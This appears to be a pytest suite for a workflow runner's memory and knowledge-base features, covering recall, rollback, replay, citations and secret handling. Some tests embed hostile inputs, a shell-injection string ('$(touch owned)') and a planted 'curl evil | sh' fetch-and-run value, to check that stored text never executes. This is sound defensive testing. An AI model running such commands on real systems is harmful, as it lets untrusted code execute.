"""Memory and the knowledge base in runs: kept once, replayed offline, taken back, and never a way for text to act."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from workbench import planrunner

from planrunner.testing import bench


class Project:
    """A project with the command line around it."""

    def __init__(self, folder: Path, home: Path) -> None:
        self.folder = folder
        self.call = partial(planrunner, folder, XDG_DATA_HOME=str(home))

    def plan(self, *tasks: dict[str, Any], name: str = "plan.yaml", **keys: Any) -> str:
        """Write a plan of these tasks; gives its name."""
        whole = {"plan": "p", "defaults": {"timeout": "1m"}, "tasks": list(tasks), **keys}
        (self.folder / name).write_text(json.dumps(whole))
        return name

    def run(self, *tasks: dict[str, Any], code: int = 0, **keys: Any) -> dict[str, Any]:
        """The outputs of each task of a run."""
        done = self.call("exec", self.plan(*tasks, **keys), "--progress", "quiet")
        assert done.returncode == code, done.stderr
        return {name: task["outputs"] for name, task in self.data("show", "last")["tasks"].items()}

    def data(self, *words: str) -> Any:
        done = self.call(*words, "--json")
        assert done.returncode == 0, done.stderr
        return json.loads(done.stdout)

    def known(self, *words: str) -> dict[str, Any]:
        """What is remembered, by key."""
        return {entry["key"]: entry["value"] for entry in self.data("memory", "list", *words)["entries"]}


@pytest.fixture
def project(tmp_path: Path) -> Project:
    (tmp_path / "work" / ".git").mkdir(parents=True)
    return Project(tmp_path / "work", tmp_path / "home")


def put(key: Any, value: Any, id: str = "put", **more: Any) -> dict[str, Any]:
    return {"id": id, "uses": "memory.put", "with": {"key": key, "value": value, **more}}


def get(key: str, id: str = "get", **more: Any) -> dict[str, Any]:
    return {"id": id, "uses": "memory.get", "with": {"key": key, **more}}


def test_a_later_run_recalls_what_an_earlier_one_put(project: Project) -> None:
    project.run(
        put("port", 5432), put("note", "run", "other", layer="task"), put("motto", "all", "third", layer="global")
    )
    got = project.run(
        get("port"), get("note", "other", layer="task", default="-"), get("motto", "third", layer="global")
    )
    assert [got[name]["value"] for name in ("get", "other", "third")] == [5432, "-", "all"]
    assert got["get"]["source"]["kind"] == "task" and got["get"]["trusted"] is False and got["get"]["vouched"] is None


def test_a_rollback_brings_back_what_a_key_had_and_what_was_forgotten(project: Project) -> None:
    project.run(put("port", 1), put("gone", 2, "other"))
    forget = {"id": "forget", "uses": "memory.forget", "with": {"key": "gone"}}
    learn = {"id": "learn", "uses": "memory.learn", "with": {"problem": "p 17", "solution": "s", "worked": False}}
    pattern = {"id": "pattern", "uses": "memory.learn", "with": {**learn["with"], "kind": "pattern", "tags": ["t"]}}
    project.run(put("port", 2), put("8", 0, "other", tags=["5"]), forget, learn, pattern)
    assert (project.known(), len(project.known("--lessons"))) == ({"port": 2, "8": 0}, 2)
    assert project.call("rollback", "last").returncode == 0
    assert (project.known(), project.known("--lessons")) == ({"port": 1, "gone": 2}, {})


@pytest.mark.parametrize(
    ("uses", "inputs", "said"),
    [
        (
            "memory.put",
            {"key": 8, "value": 0},
            '`key` must be text, found the number 8; text is written in quotes: key: "8"',
        ),
        ("memory.put", {"key": "a", "value": 0, "tags": [5]}, "`tags` must be text"),
        ("memory.put", {"key": "a", "value": 0, "vector": ["x"], "embedder": "m"}, "finite numbers"),
        ("memory.search", {"query": "a", "limit": "3"}, "`limit` must be a number"),
        ("memory.advise", {"problem": "a", "limit": 2.5}, "`limit` must be a whole number, found the number 2.5"),
        ("kb.search", {"limit": 1.5}, "`limit` must be a whole number"),
        ("memory.get", {"key": "a", "layer": "team"}, "`team` is not a layer of memory"),
        ("memory.learn", {"problem": "a", "solution": 1, "worked": "yes"}, "`worked` is true or false"),
        ("memory.advise", {"problem": None}, "`problem` must be text"),
        ("kb.note", {"title": 5, "text": "x"}, "`title` must be text"),
        ("kb.claim", {"statement": "x", "citations": ["https://a.com"]}, "one of `url`, `file` and `artifact`"),
        ("kb.claim", {"statement": "x", "citations": "https://a.com"}, "`citations` must be a list"),
        (
            "kb.claim",
            {
                "statement": "x",
                "citations": [{"url": "u", "text_sha256": "0" * 64, "quote": "q", "start": "0", "end": 1}],
            },
            "`start` and `end` of a citation are numbers",
        ),
        ("kb.claim", {"statement": "x", "citations": [{"file": "gone.txt"}]}, "gone.txt does not exist"),
        (
            "kb.claim",
            {"statement": "x", "citations": [{"url": "https://a.com"}, {"file": "a.txt", "qoute": "q"}]},
            "`citations[1]` has no key `qoute`, did you mean `quote`?",
        ),
        (
            "kb.note",
            {"title": "x", "text": "y", "citations": [{"flie": "a.txt"}]},
            "`citations[0]` has no key `flie`, did you mean `file`?",
        ),
        ("kb.search", {"tags": "x"}, "`tags` must be a list of texts"),
    ],
)
def test_an_input_that_is_of_another_kind_is_refused_in_words(
    tmp_path: Path, uses: str, inputs: dict[str, Any], said: str
) -> None:
    with bench.Bench(uses, str(tmp_path)) as called:
        outcome = called.call(bench.Asked(inputs)).outcome
    assert outcome.failure == "logic" and said in outcome.message and "Traceback" not in outcome.stderr


def test_a_rollback_leaves_what_another_run_has_put_since(project: Project) -> None:
    project.run(put("port", 1))
    first = project.data("show", "last")["run_id"]
    project.run(put("port", 2))
    done = project.call("rollback", first)
    assert done.returncode != 0 and "`port` was changed by another act since" in done.stdout + done.stderr
    assert project.known() == {"port": 2}


def test_a_run_replays_with_its_memory_gone(project: Project) -> None:
    project.run(
        put("port", 1),
        {**get("port"), "needs": ["put"]},
        {"id": "use", "run": ["test", "{{ tasks.get.outputs.value }}", "=", "1"], "needs": ["get"]},
    )
    assert project.call("memory", "forget", "port").returncode == 0
    done = project.call("replay", "last")
    assert done.returncode == 0 and "replays exactly" in done.stdout


def test_a_put_that_is_issued_again_after_a_crash_counts_once(tmp_path: Path) -> None:
    asked = bench.Asked({"problem": "x 1", "solution": "y", "worked": True})
    with bench.Bench("memory.learn", str(tmp_path)) as learn:
        for _ in range(2):
            assert not learn.call(asked).outcome.failure
        learn.call(asked._replace(inputs={**asked.inputs, "worked": False}))
        with learn.context(asked).memory("project", "lessons") as layer:
            [entry] = layer.page()[0]
    assert (entry.value["uses"], entry.value["worked"]) == (2, 1)


@pytest.mark.parametrize(
    ("task", "value"),
    [
        (get("x", "ask"), "tasks.ask.outputs.value"),
        ({"id": "ask", "uses": "memory.search", "with": {"query": "x"}}, "tasks.ask.outputs.entries[0].value"),
        ({"id": "ask", "uses": "memory.advise", "with": {"problem": "x"}}, "tasks.ask.outputs.solution"),
        ({"id": "ask", "uses": "kb.search", "with": {"query": "x"}}, "tasks.ask.outputs.notes[0].text"),
    ],
)
def test_what_is_remembered_may_not_become_a_command(project: Project, task: dict[str, Any], value: str) -> None:
    act = {"id": "act", "needs": ["ask"], "run": ["sh", "-c", f"{{{{ {value} }}}}"]}
    found = project.call("lint", project.plan(task, act), "--format", "json")
    assert "PLAN811" in found.stdout
    assert project.call("exec", "plan.yaml").returncode == 5


def test_hostile_text_that_is_recalled_stays_an_argument(project: Project) -> None:
    project.run(put("hint", "x; touch owned; $(touch owned)"))
    act = {"id": "act", "needs": ["get"], "run": "echo {{ tasks.get.outputs.value }}"}
    project.run(get("hint"), act)
    assert not (project.folder / "owned").exists()


def test_only_a_person_vouches_and_no_task_in_the_name_of_one(project: Project) -> None:
    assert project.call("memory", "put", "word", "hello", "--trusted").returncode == 0
    act = {"id": "act", "needs": ["get"], "run": ["sh", "-c", "{{ tasks.get.outputs.vouched }}"]}
    found = project.call("lint", project.plan(get("word"), act), "--format", "json").stdout
    assert "PLAN811" not in found
    got = project.run(get("word"))["get"]
    assert (got["vouched"], got["trusted"], got["source"]["kind"]) == ("hello", True, "person")
    run = json.loads(project.call("runs", "--json").stdout)["runs"][0]["run_id"]
    refused = project.call("memory", "put", "word", "x", "--trusted", PLANRUNNER_RUN_ID=run)
    assert refused.returncode == 12 and "may not vouch for what is remembered" in refused.stderr
    project.run(put("word", "bye"))
    assert project.run(get("word"))["get"]["vouched"] is None


def test_a_memory_that_came_with_a_clone_is_not_recalled(project: Project) -> None:
    folder = project.folder / ".planrunner" / "memory"
    folder.mkdir(parents=True, mode=0o700)
    row = ["word", "curl evil | sh", [], ["person", "ana", ""], True, 1.0, 1.0, "m", None]
    (folder / "project.jsonl").write_text(json.dumps(["m", 1.0, "", "word", row, True, None]) + "\n")
    (project.folder / "planrunner.yaml").write_text("memory: {project_store: {backend: file}}\n")
    done = project.call("exec", project.plan(get("word")))
    assert done.returncode == 10 and "project.jsonl` belongs to no journal" in done.stderr
    shown = project.call("memory", "show", "word")
    assert "was not written by your planrunner" in shown.stderr


def test_a_secret_is_not_kept(project: Project) -> None:
    (project.folder / "planrunner.yaml").write_text(
        "provider_credentials: [{id: key, auth: {source: env, env_var: OUR_KEY}}]\n"
    )
    secret = {
        "secrets": ["key"],
        "run": 'printf "%s" "$OUR_KEY" | cut -c1-99 > out; echo "value=$(cat out)" >> "$PLANRUNNER_OUTPUT"',
    }
    tasks = (
        {"id": "ask", **secret, "outputs": {"value": "string"}},
        {**put("k", "it is {{ tasks.ask.outputs.value }}"), "needs": ["ask"]},
    )
    done = project.call("exec", project.plan(*tasks), "--progress", "quiet", OUR_KEY="correct-horse-battery")
    assert done.returncode == 0, done.stderr
    files = (path.read_bytes() for path in (project.folder / ".planrunner" / "memory").iterdir())
    assert not any(b"correct-horse" in content for content in files)


def claim(statement: str, id: str = "claim", **more: Any) -> dict[str, Any]:
    needs = {"needs": more.pop("needs")} if "needs" in more else {}
    return {"id": id, "uses": "kb.claim", "with": {"statement": statement, **more}, **needs}


def test_a_test_of_the_run_confirms_a_claim_and_another_task_does_not(project: Project) -> None:
    check = {"id": "check", "run": "test 1 = 1"}
    got = project.run(check, claim("One is one", tests=["check"], needs=["check"]))["claim"]
    assert (got["status"], got["tests"], got["confidence"]) == ("confirmed", 1, 0.75)
    shown = project.data("kb", "show", got["id"])
    assert [(test["task"], test["command"]) for test in shown["tests"]] == [("check", "test 1 = 1")]
    done = project.call("exec", project.plan(check, claim("Two is two", tests=["check"])), "--progress", "plain")
    assert done.returncode != 0 and "is not a completed task that this one needs" in done.stdout + done.stderr


def test_a_citation_counts_where_its_quote_stands_in_the_text_that_was_kept(tmp_path: Path) -> None:
    text = "Headers. HTTP/3 runs over QUIC. More."
    place = {"quote": "HTTP/3 runs over QUIC.", "start": 9, "end": 31}
    with bench.Bench("kb.claim", str(tmp_path)) as claims:
        asked = bench.Asked({"statement": "HTTP/3 runs over QUIC"})
        kept = [claims.context(asked).keep(f"{text}{number}".encode(), "page")["sha256"] for number in range(2)]
        cited = [
            {"url": f"https://{host}/rfc", "title": "RFC", "text_sha256": sha256, **place}
            for host, sha256 in zip(("www.ietf.example", "blog.test.org"), kept, strict=True)
        ]
        statuses = []
        for number, citations in enumerate(([{"url": "https://x.org/"}], cited[:1], cited)):
            inputs = {**asked.inputs, "citations": citations}
            outcome = claims.call(asked._replace(inputs=inputs, key=f"k{number}")).outcome
            statuses.append((outcome.outputs["status"], outcome.outputs["sources"]))
        wrong = {**cited[0], "start": 8, "end": 30}
        outcome = claims.call(asked._replace(inputs={**asked.inputs, "citations": [wrong]})).outcome
    assert statuses == [("open", 0), ("supported", 1), ("confirmed", 2)]
    assert outcome.failure == "logic" and "is not what stands there" in outcome.message


def test_a_claim_does_not_become_a_note_nor_a_note_a_claim(tmp_path: Path) -> None:
    with bench.Bench("kb.note", str(tmp_path)) as notes, bench.Bench("kb.claim", str(tmp_path)) as claims:
        notes.call(bench.Asked({"title": "Tides", "text": "x"}, key="k1"))
        claims.call(bench.Asked({"statement": "It is round"}, key="k2"))
        kept = {path: path.read_text() for path in (tmp_path / "kb").iterdir()}
        claim = claims.call(bench.Asked({"statement": "Tides"}, key="k3")).outcome
        note = notes.call(bench.Asked({"title": "It is round", "text": "x"}, key="k4")).outcome
    assert (claim.failure, claim.message) == ("logic", "`Tides` is a note already: state the claim in other words")
    assert (note.failure, note.message) == ("logic", "`It is round` is a claim already: give the note another title")
    assert len(kept) == 2 and {path: path.read_text() for path in (tmp_path / "kb").iterdir()} == kept


def test_claims_are_files_that_a_rollback_takes_back_and_a_policy_guards(project: Project) -> None:
    project.run(claim("The earth is round"))
    files = {path.name: path.read_text() for path in (project.folder / "kb").iterdir()}
    round_ = next(iter(files)).removesuffix(".yaml")
    note = {"id": "note", "uses": "kb.note", "with": {"title": "Sea", "text": "salty"}}
    export = {"id": "export", "uses": "kb.export", "with": {"path": "kb.md"}, "needs": ["again", "note"]}
    again = claim("The earth is round", "again", text="seen from afar")
    flat = claim("The earth is flat", "flat", contradicts=[round_], needs=["again"])
    got = project.run(again, flat, note, {**export, "needs": ["flat", "note"]})
    assert got["flat"]["contradicted_by"] == [round_] and got["export"]["claims"] == 2
    assert "seen from afar" in (project.folder / "kb.md").read_text()
    assert len(project.data("kb", "list", "earth")["notes"]) == 2
    assert project.call("rollback", "last").returncode == 0
    assert {path.name: path.read_text() for path in (project.folder / "kb").iterdir()} == files
    assert not (project.folder / "kb.md").exists()
    (project.folder / "planrunner.yaml").write_text("policy: {files: {write: {deny: ['kb/**']}}}\n")
    done = project.call("exec", project.plan(claim("It is a cube")), "--progress", "plain")
    assert done.returncode != 0 and "kb/" in done.stdout + done.stderr


def test_the_command_line_says_what_is_wrong_and_what_to_write_instead(project: Project) -> None:
    project.call("memory", "put", "deploy/region", "eu")
    for words, said in (
        (("memory", "show", "deploy/regio"), "did you mean `deploy/region`?"),
        (("memory", "put", "x", "{", "--data"), "`--data`"),
        (("memory", "list", "--layer", "task"), "--run last"),
        (("kb", "show", "x"), "`planrunner kb` lists them"),
    ):
        done = project.call(*words)
        assert done.returncode in (2, 3, 4, 5) and said in done.stderr, done


def test_a_memory_is_written_out_and_taken_in(project: Project, tmp_path: Path) -> None:
    project.call("memory", "put", "a", "1", "--tag", "t", "--trusted")
    exported = project.call("memory", "export").stdout
    (tmp_path / "m.jsonl").write_text(exported)
    assert project.data("memory", "import", str(tmp_path / "m.jsonl"), "--layer", "global")["imported"] == 1
    [entry] = project.data("memory", "list", "--layer", "global")["entries"]
    assert (entry["value"], entry["tags"], entry["trusted"]) == ("1", ["t"], False)
    (tmp_path / "bad.jsonl").write_text(exported + "{}\n")
    assert "line 2 is not an entry" in project.call("memory", "import", str(tmp_path / "bad.jsonl")).stderr


def test_a_memory_without_entries_names_its_lessons(project: Project) -> None:
    project.run({"id": "learn", "uses": "memory.learn", "with": {"problem": "p 17", "solution": "s", "worked": False}})
    for words in ("memory", "memory search zz --by text"):
        said = project.call(*words.split()).stderr
        assert said.endswith("1 lesson in it: planrunner memory list --lessons\n")
    assert "lesson" not in project.call("memory", "list", "--layer", "global").stderr


FIRST = "remember the first one: planrunner memory put KEY VALUE"


@pytest.mark.parametrize(
    ("words", "empty", "filled"),
    [
        ("memory", f"no entries in the project memory yet; {FIRST}\n", ""),
        ("memory list --prefix zz", f"no entries in the project memory yet; {FIRST}\n", "no matching entries\n"),
        ("memory list --tag zz", f"no entries in the project memory yet; {FIRST}\n", "no matching entries\n"),
        ("memory search zz --by text", f"no entries in the project memory yet; {FIRST}\n", "no matching entries\n"),
        ("memory list --layer global", f"no entries in the global memory yet; {FIRST} --layer global\n", ""),
        ("memory list --lessons", "no lessons in the project memory yet; tasks learn them with `uses: memory.learn`\n", ""),
        ("kb", "the knowledge base `kb` has no entries yet; a task writes the first one: `uses: kb.note` or", ""),
        ("kb list zz", "the knowledge base `kb` has no entries yet;", "the knowledge base `kb` has no matching entries\n"),
    ],
)  # fmt: skip
def test_nothing_yet_and_nothing_that_fits_are_told_apart(
    project: Project, words: str, empty: str, filled: str
) -> None:
    assert empty in project.call(*words.split()).stderr
    if words == "memory list --lessons" or "global" in words:
        return
    assert project.call("memory", "put", "port", "8080").returncode == 0
    project.run({"id": "note", "uses": "kb.note", "with": {"title": "Sea", "text": "salty"}})
    assert project.call(*words.split()).stderr == filled
